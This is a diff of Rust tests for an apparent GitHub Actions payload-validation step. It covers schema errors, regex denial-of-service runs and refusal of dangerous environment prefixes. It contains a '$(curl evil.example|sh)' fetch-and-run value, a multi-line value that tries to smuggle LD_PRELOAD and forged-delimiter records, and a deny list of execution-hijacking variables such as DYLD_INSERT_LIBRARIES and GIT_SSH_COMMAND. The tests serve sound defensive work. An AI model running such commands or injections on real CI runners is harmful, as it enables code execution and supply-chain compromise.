@@ -388,7 +388,7 @@ fn an_unusable_schema_stops_the_step_before_the_event_is_read() {
         (
             "not JSON",
             r#"{"type": "object",}"#,
-            "schema is not valid JSON: trailing comma at line 1 column 19",
+            "schema is not valid JSON: trailing comma at line 1, column 19 (near `{\"type\": \"object\",}`): JSON allows no trailing comma",
         ),
         (
             "not a schema",
@@ -429,7 +429,7 @@ fn an_unusable_schema_stops_the_step_before_the_event_is_read() {
         (
             "keywords a draft-07 $ref hides",
             r##"{"$schema": "http://json-schema.org/draft-07/schema#", "$ref": "#/definitions/x", "definitions": {"x": {"type": "object"}}, "properties": {"tag": {"pattern": "^[a-z]+$"}}, "required": ["tag"]}"##,
-            "its draft ignores every keyword beside a top-level $ref, so properties, required would not be checked",
+            "its draft ignores every keyword beside a $ref, so these would not be checked: properties, required at #: wrap the $ref and its keywords in allOf",
         ),
         (
             "a $ref loop",
@@ -440,6 +440,11 @@ fn an_unusable_schema_stops_the_step_before_the_event_is_read() {
             "a $ref to nothing",
             r##"{"properties": {"a": {"$ref": "#/$defs/missing"}}}"##,
             "json-pointer in #/$defs/missing not found",
+        ),
+        (
+            "a $ref into a value that says format: regex",
+            r##"{"properties": {"a": {"$ref": "#/properties/b/const"}, "b": {"const": {"format": "regex"}}}}"##,
+            r##"the $ref "#/properties/b/const" may point into a value (const, enum, default or examples) that holds "format": "regex""##,
         ),
     ];
     for (name, schema, says) in cases {
@@ -493,22 +498,20 @@ fn hostile_values_inject_nothing() {
             ("payload".to_owned(), json!({"note": hostile}).to_string()),
         ]
     );
-    // The same value for the environment file is refused, and nothing is
-    // written; the error shows it escaped on one line.
+    // The same value for the environment file: one variable, read back
+    // whole as the runner reads the file, and no other record.
     let r = Step::dispatch(
         &json!({"note": hostile}),
         &[("SCHEMA", schema), ("ENV-PREFIX", "P_")],
     )
     .unset("INPUT_SCHEMA-FILE")
     .run(&[]);
-    assert_eq!(r.code, 1, "{r:?}");
+    assert_eq!(r.code, 0, "{r:?}");
     assert_eq!(
-        r.errors(),
-        [
-            "::error title=Value refused for the environment::client_payload/note: the value holds a line break or NUL, which an environment variable (P_NOTE) must not: read it from the step output note instead, or forbid it in the schema (a pattern)"
-        ]
+        records(&r.env_file),
+        [("P_NOTE".to_owned(), hostile.to_owned())]
     );
-    assert!(r.wrote_nothing());
+    assert_eq!(r.outputs().len(), 2, "{r:?}");
     let r = Step::dispatch(
         &json!({"note": "a\u{0}b"}),
         &[("SCHEMA", schema), ("ENV-PREFIX", "P_")],
@@ -787,5 +790,439 @@ fn an_unknown_format_is_warned_of() {
         r.errors()[0].contains("client_payload/host: format: expected a valid hostname"),
         "{:?}",
         r.errors()
+    );
+}
+
+/// A step given only `schema` (no schema file).
+fn inline(payload: &Value, schema: &str, inputs: &[(&str, &str)]) -> Step {
+    let mut all = vec![("SCHEMA", schema)];
+    all.extend_from_slice(inputs);
+    Step::dispatch(payload, &all).unset("INPUT_SCHEMA-FILE")
+}
+
+/// `format: "regex"` on long runs of the escapes boon rewrites one at a time
+/// (`\s`, `\d`, `\w`, `\cX`): judged, and rightly, in linear time. Before,
+/// `\s` × 21,000 kept the step busy about ten minutes; no clock is read here,
+/// the test harness's own time-out is the failure.
+#[test]
+fn format_regex_judges_long_runs_of_escapes() {
+    let schema = r##"{"$defs": {"re": {"type": "string", "format": "regex"}}, "properties": {"re": {"type": "string", "format": "regex"}, "nested": {"type": "array", "items": {"$ref": "#/$defs/re"}}}}"##;
+    let cases: &[(&str, String, i32)] = &[
+        ("\\s × 21,000", r"\s".repeat(21_000), 0),
+        ("\\d × 30,000", r"\d".repeat(30_000), 0),
+        (
+            "\\w × 20,000 in a class",
+            format!("[{}]", r"\w".repeat(20_000)),
+            0,
+        ),
+        ("\\cA × 20,000", r"\cA".repeat(20_000), 0),
+        (
+            "\\s × 20,000 then a look-ahead",
+            format!("{}(?=x)", r"\s".repeat(20_000)),
+            1,
+        ),
+        (
+            "\\d × 20,000 then \\a",
+            format!("{}\\a", r"\d".repeat(20_000)),
+            1,
+        ),
+    ];
+    for (name, value, code) in cases {
+        for payload in [json!({"re": value}), json!({"nested": [value]})] {
+            let r = inline(&payload, schema, &[]).run(&[]);
+            assert_eq!(r.code, *code, "{name}: {:?}", r.errors());
+            if *code == 0 {
+                assert!(r.errors().is_empty(), "{name}: {r:?}");
+                assert_eq!(
+                    r.outputs().last(),
+                    Some(&("payload".to_owned(), payload.to_string())),
+                    "{name}"
+                );
+            } else {
+                let at = if payload.get("re").is_some() {
+                    "re"
+                } else {
+                    "nested/0"
+                };
+                let errors = r.errors();
+                assert_eq!(errors.len(), 1, "{name}: {errors:?}");
+                assert!(
+                    errors[0].starts_with(&format!(
+                        "::error title=Invalid client_payload::client_payload/{at}: format: expected a valid regex, got \""
+                    )),
+                    "{name}: {}",
+                    errors[0]
+                );
+                assert!(r.wrote_nothing(), "{name}");
+            }
+        }
+    }
+}
+
+/// `"format": "regex"` is this step's check only where it is a schema's: a
+/// value that happens to say it (a `const`) is compared as written.
+#[test]
+fn format_regex_in_a_value_is_data() {
+    let schema = r#"{"properties": {"c": {"const": {"format": "regex"}}, "e": {"enum": [{"format": "regex", "x": 1}]}}}"#;
+    let payload = json!({"c": {"format": "regex"}, "e": {"format": "regex", "x": 1}});
+    let r = inline(&payload, schema, &[]).run(&[]);
+    assert_eq!(r.code, 0, "{r:?}");
+    let r = inline(&json!({"c": {"format": "x"}}), schema, &[]).run(&[]);
+    assert_eq!(r.code, 1, "{r:?}");
+    assert!(
+        r.errors()[0].contains("client_payload/c: const: expected {\"format\":\"regex\"}"),
+        "{:?}",
+        r.errors()
+    );
+}
+
+/// An accept list that is given must name someone: `","` is not "anyone".
+/// Refused (exit 2) before the event is read.
+#[test]
+fn an_accept_list_given_must_name_at_least_one_entry() {
+    for (input, value) in [
+        ("SENDERS", ","),
+        ("SENDERS", " , \n "),
+        ("SENDERS", "\n,\n,"),
+        ("EVENT-TYPES", ","),
+        ("EVENT-TYPES", " ,, "),
+    ] {
+        let step = Step::dispatch(&valid_payload(), &[(input, value)]);
+        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
+        let r = step.run(&[]);
+        let name = input.to_ascii_lowercase();
+        assert_eq!(r.code, 2, "{input}={value:?}: {r:?}");
+        assert_eq!(
+            r.errors(),
+            [format!(
+                "::error title=Invalid input%3A {name}::{name} is set but names no {}: list at least one, separated by commas or line breaks, or leave {name} out to accept any",
+                if input == "SENDERS" {
+                    "sender"
+                } else {
+                    "event type"
+                }
+            )],
+            "{input}={value:?}"
+        );
+        assert!(r.wrote_nothing());
+    }
+    // The flags too.
+    let step = Step::dispatch(&valid_payload(), &[]);
+    let r = step.run(&["--senders", ","]);
+    assert_eq!(r.code, 2, "{r:?}");
+    assert!(r.wrote_nothing());
+}
+
+/// Drafts 4, 6 and 7 ignore every keyword beside a `$ref`, anywhere in the
+/// schema: refused with each place, not only at the top level.
+#[test]
+fn keywords_beside_any_ref_of_an_old_draft_are_refused() {
+    let refused: &[(&str, &str)] = &[
+        (
+            r##"{"$schema": "http://json-schema.org/draft-07/schema#", "definitions": {"s": {"type": "string"}}, "properties": {"name": {"$ref": "#/definitions/s", "pattern": "^[a-z0-9-]+$", "maxLength": 10}}}"##,
+            "maxLength, pattern at #/properties/name",
+        ),
+        (
+            r##"{"$schema": "http://json-schema.org/draft-04/schema#", "definitions": {"s": {"type": "string"}}, "properties": {"tags": {"type": "array", "items": {"$ref": "#/definitions/s", "enum": ["a"]}}}}"##,
+            "enum at #/properties/tags/items",
+        ),
+        (
+            r##"{"$schema": "http://json-schema.org/draft-06/schema#", "definitions": {"s": {"type": "string"}}, "allOf": [{"$ref": "#/definitions/s", "minLength": 1}], "properties": {"a~b/c": {"anyOf": [{"$ref": "#/definitions/s", "const": "x"}]}}}"##,
+            "minLength at #/allOf/0; const at #/properties/a~0b~1c/anyOf/0",
+        ),
+        (
+            r##"{"$schema": "http://json-schema.org/draft-07/schema#", "$ref": "#/definitions/x", "definitions": {"x": {"type": "object"}, "y": {"$ref": "#/definitions/x", "required": ["a"]}}, "properties": {"tag": {"pattern": "^[a-z]+$"}}}"##,
+            "properties at #; required at #/definitions/y",
+        ),
+    ];
+    for (schema, says) in refused {
+        let step = inline(&json!({"name": "x"}), schema, &[]);
+        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
+        let r = step.run(&[]);
+        assert_eq!(r.code, 2, "{schema}: {r:?}");
+        assert_eq!(
+            r.errors(),
+            [format!(
+                "::error title=Invalid schema::schema: its draft ignores every keyword beside a $ref, so these would not be checked: {says}: wrap the $ref and its keywords in allOf, as in {{\"allOf\": [{{\"$ref\": \"#/definitions/s\"}}, {{\"maxLength\": 10}}]}}, or use draft 2020-12 (which applies both)"
+            )],
+            "{schema}"
+        );
+        assert!(r.wrote_nothing());
+    }
+    // Not a place for keywords: values (enum, const, default, examples) and
+    // property names; annotations beside a $ref; and draft 2020-12, which
+    // applies both.
+    for schema in [
+        r##"{"$schema": "http://json-schema.org/draft-07/schema#", "definitions": {"s": {"type": "string"}}, "properties": {"obj": {"properties": {"$ref": {"type": "string"}, "maxLength": {"type": "string"}}}, "pattern": {"enum": [{"$ref": "#/x", "pattern": "y"}], "default": {"$ref": "#/x", "minLength": 1}}, "name": {"$ref": "#/definitions/s", "title": "Name", "description": "a name", "$comment": "c", "default": "x", "examples": ["y"]}}}"##,
+        r##"{"$defs": {"s": {"type": "string"}}, "properties": {"name": {"$ref": "#/$defs/s", "maxLength": 10}}}"##,
+    ] {
+        let r = inline(&json!({"name": "x"}), schema, &[]).run(&[]);
+        assert_eq!(r.code, 0, "{schema}: {r:?}");
+    }
+    // The case of the issue, in 2020-12: both apply.
+    let r = inline(
+        &json!({"name": "$(curl evil.example|sh) and more than ten chars"}),
+        r##"{"$defs": {"s": {"type": "string"}}, "properties": {"name": {"$ref": "#/$defs/s", "pattern": "^[a-z0-9-]+$", "maxLength": 10}}}"##,
+        &[],
+    )
+    .run(&[]);
+    assert_eq!(r.code, 1, "{r:?}");
+    assert_eq!(r.errors().len(), 2, "{r:?}");
+}
+
+/// (env-prefix, property, what the error names): names that were once
+/// exported, and one of each family that matters on Linux, macOS and Windows
+/// runners (the whole table: `src/receive/env_names.rs`).
+const REFUSED_VARIABLES: &[(&str, &str, &str)] = &[
+    (
+        "CGO_",
+        "cflags",
+        "env-prefix CGO_ would set CGO_* variables",
+    ),
+    (
+        "OPENSSL_",
+        "conf",
+        "env-prefix OPENSSL_ would set OPENSSL_* variables",
+    ),
+    ("GLIBC_", "tunables", "would be exported as GLIBC_TUNABLES"),
+    (
+        "CMAKE_",
+        "c_compiler_launcher",
+        "env-prefix CMAKE_ would set CMAKE_* variables",
+    ),
+    (
+        "SUDO_",
+        "askpass",
+        "env-prefix SUDO_ would set SUDO_* variables",
+    ),
+    ("APT_", "config", "would be exported as APT_CONFIG"),
+    ("R_", "profile_user", "would be exported as R_PROFILE_USER"),
+    (
+        "GCC_",
+        "exec_prefix",
+        "env-prefix GCC_ would set GCC_* variables",
+    ),
+    (
+        "DYLD_",
+        "insert_libraries",
+        "env-prefix DYLD_ would set DYLD_* variables",
+    ),
+    (
+        "NPM_",
+        "config_registry",
+        "env-prefix NPM_ would set NPM_* variables",
+    ),
+    (
+        "PYTHON_",
+        "basic_repl",
+        "env-prefix PYTHON_ would set PYTHON* variables",
+    ),
+    ("PERL5_", "x", "env-prefix PERL5_ would set PERL* variables"),
+    ("RUBY_", "x", "env-prefix RUBY_ would set RUBY* variables"),
+    (
+        "JAVA_",
+        "tool_options",
+        "env-prefix JAVA_ would set JAVA_* variables",
+    ),
+    ("CONFIG_", "site", "would be exported as CONFIG_SITE"),
+    ("LESS_", "x", "env-prefix LESS_ would set LESS* variables"),
+    (
+        "PHP_",
+        "ini_scan_dir",
+        "env-prefix PHP_ would set PHP_* variables",
+    ),
+    (
+        "PYTEST_",
+        "addopts",
+        "env-prefix PYTEST_ would set PYTEST_* variables",
+    ),
+    (
+        "PKG_",
+        "config_path",
+        "would be exported as PKG_CONFIG_PATH",
+    ),
+    (
+        "ASAN_",
+        "options",
+        "env-prefix ASAN_ would set ASAN_* variables",
+    ),
+    ("RES_", "options", "would be exported as RES_OPTIONS"),
+    ("DEVELOPER_", "dir", "would be exported as DEVELOPER_DIR"),
+    (
+        "HOMEBREW_",
+        "brew_git_remote",
+        "env-prefix HOMEBREW_ would set HOMEBREW_* variables",
+    ),
+    (
+        "RUSTC_",
+        "wrapper",
+        "env-prefix RUSTC_ would set RUSTC_* variables",
+    ),
+    (
+        "GIT_",
+        "ssh_command",
+        "env-prefix GIT_ would set GIT_* variables",
+    ),
+    (
+        "DOCKER_",
+        "host",
+        "env-prefix DOCKER_ would set DOCKER_* variables",
+    ),
+    ("GH_", "host", "env-prefix GH_ would set GH_* variables"),
+    ("NO_", "proxy", "env-prefix NO_ would set NO_* variables"),
+    (
+        "ACTIONS_",
+        "runtime_url",
+        "env-prefix ACTIONS_ would set ACTIONS_* variables",
+    ),
+];
+
+/// Names that run code or redirect programs, exported under an env-prefix a
+/// workflow could choose: each refused, naming the variable or the family.
+#[test]
+fn variables_that_change_how_programs_run_are_refused() {
+    for (prefix, property, says) in REFUSED_VARIABLES {
+        let schema = json!({"properties": {*property: {"type": "string"}}}).to_string();
+        let step = inline(&json!({*property: "x"}), &schema, &[("ENV-PREFIX", prefix)]);
+        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
+        let r = step.run(&[]);
+        assert_eq!(r.code, 2, "{prefix}{property}: {r:?}");
+        let errors = r.errors();
+        assert_eq!(errors.len(), 1, "{prefix}{property}: {errors:?}");
+        assert!(
+            errors[0].starts_with("::error title=Invalid input%3A env-prefix::")
+                && errors[0].contains(says),
+            "{prefix}{property}: {}",
+            errors[0]
+        );
+        assert!(r.wrote_nothing(), "{prefix}{property}");
+    }
+    // A prefix of one's own is fine, even one that shares letters with a
+    // family (PYTHONIC_ is not PYTHON's, CGOOD_ not CGO_'s: both are still
+    // refused if they start the family's name; these do not).
+    for prefix in ["DEPLOY_", "APP_", "CD_", "RELEASE_"] {
+        let r = Step::dispatch(&valid_payload(), &[("ENV-PREFIX", prefix)]).run(&[]);
+        assert_eq!(r.code, 0, "{prefix}: {r:?}");
+    }
+}
+
+/// A multi-line value reaches the environment whole, in the runner's
+/// `NAME<<DELIMITER` form; the runner reads it back as one variable and
+/// nothing else. A NUL is still refused.
+#[test]
+fn a_multi_line_value_is_exported_whole() {
+    let schema = r#"{"type": "object", "properties": {"notes": {"type": "string"}}}"#;
+    let notes = "line one\r\nline two\n::set-env name=LD_PRELOAD::/tmp/x.so\nEOF\nghadelimiter_0\nINJECTED<<EOF\nx\nEOF\n\nlast";
+    let r = inline(
+        &json!({"notes": notes}),
+        schema,
+        &[("ENV-PREFIX", "DEPLOY_")],
+    )
+    .run(&[]);
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(
+        records(&r.env_file),
+        [("DEPLOY_NOTES".to_owned(), notes.to_owned())]
+    );
+    assert_eq!(r.outputs()[0], ("notes".to_owned(), notes.to_owned()));
+
+    let r = inline(
+        &json!({"notes": "a\u{0}b"}),
+        schema,
+        &[("ENV-PREFIX", "DEPLOY_")],
+    )
+    .run(&[]);
+    assert_eq!(r.code, 1, "{r:?}");
+    assert_eq!(
+        r.errors(),
+        [
+            "::error title=Value refused for the environment::client_payload/notes: the value holds a NUL character, which an environment variable (DEPLOY_NOTES) cannot hold: read it from the step output notes instead, or forbid it in the schema (a pattern)"
+        ]
+    );
+    assert!(r.wrote_nothing());
+}
+
+/// An event file that is not a JSON object is refused (exit 1), nothing
+/// written, even when the schema would accept an empty payload.
+#[test]
+fn an_event_file_that_is_not_an_object_is_refused() {
+    for (text, kind) in [
+        ("[]", "an array"),
+        (r#"[{"client_payload": {}}]"#, "an array"),
+        (r#""{}""#, "a string"),
+        ("1", "a number"),
+        ("null", "null"),
+        ("true", "a boolean"),
+    ] {
+        for event_name in ["repository_dispatch", "workflow_dispatch"] {
+            let step = Step::new(
+                event_name,
+                &json!({}),
+                &[("SCHEMA", "{\"type\": \"object\"}")],
+            )
+            .unset("INPUT_SCHEMA-FILE");
+            std::fs::write(step.dir.path().join("event.json"), text).unwrap();
+            let r = step.run(&[]);
+            assert_eq!(r.code, 1, "{text}: {r:?}");
+            assert_eq!(
+                r.errors(),
+                [format!(
+                    "::error title=Event unreadable::the event file holds {kind}, not a JSON object: the runner writes the event as an object; outside a workflow, give --event the path of a saved event (the webhook payload, an object)"
+                )],
+                "{text}"
+            );
+            assert!(r.wrote_nothing(), "{text}");
+        }
+    }
+}
+
+/// A schema that is not JSON gets the sender's treatment of a bad
+/// `client-payload`: where, the text near the mistake, and what to do.
+#[test]
+fn a_schema_that_is_not_json_is_shown_near_the_mistake() {
+    let cases: &[(&str, &str)] = &[
+        (
+            r#"{"type": "object""#,
+            "schema is not valid JSON: EOF while parsing an object at line 1, column 17 (near `{\"type\": \"object\"`): the JSON ends early: a brace, bracket or quote is not closed; give a multi-line schema as a YAML block (schema: |) or in a file (schema-file)",
+        ),
+        (
+            "{\"type\": \"object\",\n \"properties\": {\"a\": {\"type\": 'string'}}}",
+            "schema is not valid JSON: expected value at line 2, column 31 (near `es\": {\"a\": {\"type\": 'string'}}}`): JSON strings and keys take double quotes",
+        ),
+        (
+            r#"{"type": "object",}"#,
+            "schema is not valid JSON: trailing comma at line 1, column 19 (near `{\"type\": \"object\",}`): JSON allows no trailing comma: remove the comma after the last element",
+        ),
+        (
+            r#"{type: "object"}"#,
+            "schema is not valid JSON: key must be a string at line 1, column 2 (near `{type: \"object\"}`): keys must be in double quotes, as in {\"type\": \"object\"}",
+        ),
+    ];
+    for (schema, says) in cases {
+        let step = inline(&valid_payload(), schema, &[]);
+        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
+        let r = step.run(&[]);
+        assert_eq!(r.code, 2, "{schema}: {r:?}");
+        assert_eq!(
+            r.errors(),
+            [format!("::error title=Invalid schema::{says}")],
+            "{schema}"
+        );
+        assert!(r.wrote_nothing());
+    }
+    // A schema file: named by its path.
+    let step = Step::dispatch(&valid_payload(), &[]);
+    std::fs::write(
+        step.dir.path().join("workspace/.github").join(SCHEMA),
+        "{\n  \"type\": \"object\"\n  \"required\": [\"a\"]\n}\n",
+    )
+    .unwrap();
+    let r = step.run(&[]);
+    assert_eq!(r.code, 2, "{r:?}");
+    assert_eq!(
+        r.errors(),
+        [
+            "::error title=Invalid schema::schema-file .github/deploy.schema.json is not valid JSON: expected `,` or `}` at line 3, column 3 (near `  \"required\": [\"a\"]`): check the JSON near there (jq . FILE shows the first mistake); in a workflow, give the schema as a YAML block (schema: |) or in a file (schema-file)"
+        ]
     );
 }
